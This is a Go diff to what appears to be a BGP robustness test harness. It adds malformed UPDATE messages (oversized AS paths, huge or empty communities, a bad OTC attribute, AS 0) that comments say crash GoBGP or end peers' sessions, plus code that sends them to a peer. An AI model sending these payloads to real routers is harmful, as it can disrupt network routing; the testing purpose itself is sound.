@@ -36,7 +36,7 @@ type attack struct {
 	data []byte // then this
 }
 
-func attacks() []attack {
+func attacks(asn uint16) []attack {
 	return []attack{
 		// The one that kills GoBGP v3 (osrg/gobgp#3325).
 		{"19 bytes of unknown type before OPEN", false, message(typeUnknown, nil)},
@@ -56,11 +56,43 @@ func attacks() []attack {
 		{"the same attribute twice", true, update(attr(0x40, 1, 0), attr(0x40, 1, 0))},
 		{"unknown well-known attribute", true, update(attr(0x40, 250, 1, 2, 3))},
 		{"an empty UPDATE a thousand times", true, repeat(message(typeUpdate, []byte{0, 0, 0, 0}), 1000)},
+		// What outgrows another neighbor's messages on its way out ends a GoBGP
+		// v4.8.0 process (osrg/gobgp#2629).
+		{"1,990 two-octet AS numbers in the path", true, announce(longAttr(0x50, 2, path(asn, 255, 255, 255, 255, 255, 255, 255, 205)), 8, 11)},
+		{"a first segment of 255 AS numbers", true, announce(longAttr(0x50, 2, path(asn, 255)), 8, 11)},
+		{"a full message with a short prefix", true, announce(append(attr(0x40, 2, path(asn, 1)...), longAttr(0xd0, 99, make([]byte, 4035))...), 8, 11)},
+		{"4,020 bytes of communities", true, announce(append(attr(0x40, 2, path(asn, 1)...), longAttr(0xd0, 8, make([]byte, 4020))...), 8, 11)},
+		// What the receivers of a route end their sessions for.
+		{"communities of length 0", true, announce(append(attr(0x40, 2, path(asn, 1)...), attr(0xc0, 8)...), 8, 11)},
+		{"OTC of length 3", true, announce(append(attr(0x40, 2, path(asn, 1)...), attr(0xc0, 35, 0, 0, 1)...), 8, 11)},
+		{"AS 0 in the path", true, announce(attr(0x40, 2, 2, 1, 0, 0), 8, 11)},
 	}
 }
 
+// path is an AS_PATH of 2-octet AS numbers, with segments of the given sizes.
+func path(asn uint16, sizes ...int) (b []byte) {
+	for _, n := range sizes {
+		b = append(b, 2, byte(n))
+		for range n {
+			b = binary.BigEndian.AppendUint16(b, asn)
+		}
+	}
+	return b
+}
+
+// announce is an UPDATE with attributes beside ORIGIN and NEXT_HOP.
+func announce(attrs []byte, nlri ...byte) []byte {
+	attrs = append(append(attr(0x40, 1, 0), attr(0x40, 3, 192, 0, 2, 66)...), attrs...)
+	body := binary.BigEndian.AppendUint16([]byte{0, 0}, uint16(len(attrs)))
+	return message(typeUpdate, append(append(body, attrs...), nlri...))
+}
+
+func longAttr(flags, typ byte, value []byte) []byte {
+	return append([]byte{flags, typ, byte(len(value) >> 8), byte(len(value))}, value...)
+}
+
 func attackBGP(local, peer string, asn uint16) error {
-	for _, a := range attacks() {
+	for _, a := range attacks(asn) {
 		answer, err := a.run(local, peer, asn)
 		if err != nil {
 			return fmt.Errorf("%s: %w", a.name, err)
